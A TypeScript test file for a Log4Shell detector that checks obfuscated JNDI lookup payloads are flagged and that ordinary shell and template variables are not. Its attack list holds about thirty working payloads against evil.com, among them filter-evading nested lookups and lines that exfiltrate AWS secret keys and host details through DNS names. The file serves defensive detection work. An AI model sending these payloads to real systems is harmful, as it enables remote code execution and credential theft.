import { test } from 'node:test'
import assert from 'node:assert/strict'
import { analyzeJndi, resolveLookups } from '../../src/detection/jndi/analyzer.js'
import { surest } from './support.js'

const detect = (value: string) => surest(analyzeJndi, value)

test('Log4j lookups resolve the way StrSubstitutor resolves them', () => {
  assert.equal(resolveLookups('${lower:J}${upper:n}${::-d}${env:NOPE:-i}').text, 'jNdi')
  assert.equal(resolveLookups("${date:'j'}x").text, 'jx')
  assert.equal(resolveLookups('a ${unknown} b').text, 'a ${unknown} b')
  assert.equal(resolveLookups('cut ${short').text, 'cut ${short')
  assert.deepEqual(resolveLookups('${${lower:J}ndi:ldap://x/a}').jndi, ['ldap://x/a'])
  assert.deepEqual(resolveLookups('${j${k8s:k5:-ND}i:rmi://x}').jndi, ['rmi://x'])
})

const attacks: [string, number][] = [
  ['${jndi:ldap://evil.com/a}', 0.95],
  ['${jndi:ldaps://evil.com/a}', 0.95],
  ['${jndi:rmi://evil.com:1099/a}', 0.95],
  ['${jndi:dns://evil.com/a}', 0.95],
  ['${jndi:iiop://evil.com/a}', 0.95],
  ['${jndi:corba://evil.com/a}', 0.95],
  ['${jndi:nds://evil.com/a}', 0.95],
  ['${jndi:http://evil.com/a}', 0.95],
  ['${JNDI:LDAP://evil.com/a}', 0.95],
  ['${jndi:nis://evil.com/a}', 0.95],
  ['User-Agent: Mozilla/5.0 ${jndi:ldap://evil.com/a} Safari', 0.95],
  ['%24%7Bjndi%3Aldap%3A%2F%2Fevil.com%2Fa%7D', 0.95],
  // nested lookups that spell `jndi` or the protocol
  ['${${lower:j}ndi:ldap://evil.com/a}', 0.95],
  ['${${lower:J}${lower:N}${lower:D}${lower:I}:ldap://evil.com/a}', 0.95],
  ['${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://evil.com/a}', 0.95],
  ['${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.com/a}', 0.95],
  ['${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.com/a}', 0.95],
  ['${j${k8s:k5:-ND}i:ldap://evil.com/a}', 0.95],
  ['${jndi:${lower:l}${lower:d}a${lower:p}://ex${upper:a}mple.com}', 0.95],
  ["${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.com/a}", 0.95],
  ['${${::-j}ndi:rmi://evil.com/a}', 0.95],
  ['${j${::-n}d${upper:\u0131}:ldap://evil.com/a}', 0.95],
  ['${${sys:nope:-j}${main:x:-n}${ctx:y:-d}${docker:z:-i}:dns://evil.com}', 0.95],
  ['${${lower:${lower:jndi}}:${lower:rmi}://evil.com/a}', 0.95],
  // exfiltration through the lookup name
  ['${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.com/a}', 0.95],
  ['${jndi:dns://${sys:java.version}.evil.com}', 0.95],
  ['${jndi:ldap://${hostName}.evil.com/a}', 0.95],
  // unknown protocol, truncated
  ['${jndi:foo://evil.com/a}', 0.9],
  ['${jndi:ldap://evil.com/a', 0.85],
  ['${${lower:j}ndi:ldap://evil.com/a', 0.85],
]

// Suspicious probes that read the environment: reported, not blocked at default paranoia.
const probes = ['${env:AWS_SECRET_ACCESS_KEY}', '${sys:java.version}', '${java:version}', '${lower:x}', '${env:USER}']

// Ordinary values with the same syntax: must stay below the default blocking threshold.
const benign = [
  'price: ${amount}',
  '${HOME}/bin',
  'export PATH=${PATH}:/usr/bin',
  '${VAR:-default}',
  '${env:STAGE}',
  'provider: ${opt:stage, "dev"}',
  'The JNDI: ldap lookup guide',
  'jndi:ldap://x in a sentence without a lookup',
  'java.naming.provider.url=ldap://ldap.example.com',
  '{"a": "${x}"}',
  '$$',
  '${',
  '}}}',
  '${}',
  'Total ${a}${b}${c}',
]

test('JNDI: Log4Shell lookups are found however they are spelled', () => {
  const failures: string[] = []
  for (const [value, confidence] of attacks) {
    const f = detect(value)
    if (f === null || f.confidence < confidence) failures.push(`${value}: ${f?.rule} ${f?.confidence}`)
  }
  assert.deepEqual(failures, [])
})

test('JNDI: environment lookups alone are suspicious, below the blocking threshold', () => {
  for (const value of probes) {
    const f = detect(value)
    assert.ok(f !== null && f.confidence >= 0.5 && f.confidence < 0.8, `${value}: ${f?.rule} ${f?.confidence}`)
  }
})

test('JNDI: shell and template variables stay below the blocking threshold', () => {
  const failures: string[] = []
  for (const value of benign) {
    const f = detect(value)
    if (f !== null && f.confidence >= 0.8) failures.push(`${value}: ${f.rule} ${f.confidence}`)
  }
  assert.deepEqual(failures, [])
})

test('JNDI analysis stays linear on long adversarial input', () => {
  const inputs = [
    '${'.repeat(50_000),
    '${'.repeat(50_000) + '}'.repeat(50_000),
    '${lower:'.repeat(20_000) + 'x' + '}'.repeat(20_000),
    '${::-'.repeat(30_000),
    '}'.repeat(100_000),
    '${a}'.repeat(50_000),
    '${jndi:' + 'a'.repeat(200_000),
  ]
  for (const v of inputs) {
    const t = performance.now()
    analyzeJndi(v)
    const ms = performance.now() - t
    assert.ok(ms < 250, `${v.slice(0, 12)}...: ${ms} ms`)
  }
})

test('JNDI: letters spelled one empty lookup each are Log4j obfuscation, even cut short', () => {
  assert.equal(detect('${${::-j}${::-n}${::-d}${::-i}${::-r}${::-m}${::-i}://example.com')?.rule, 'log4j-obfuscation')
  assert.ok(detect('${${::-j}${::-n}${::-d}')!.confidence >= 0.8)
  // shell and compose defaults name a variable: not obfuscation
  for (const ok of ['${PORT:-8080} ${HOST:-localhost} ${X:-a}', '${::-a}', '${a:-b}${c:-d}${e:-f}']) {
    const f = detect(ok)
    assert.ok(f === null || f.confidence < 0.8, ok)
  }
})
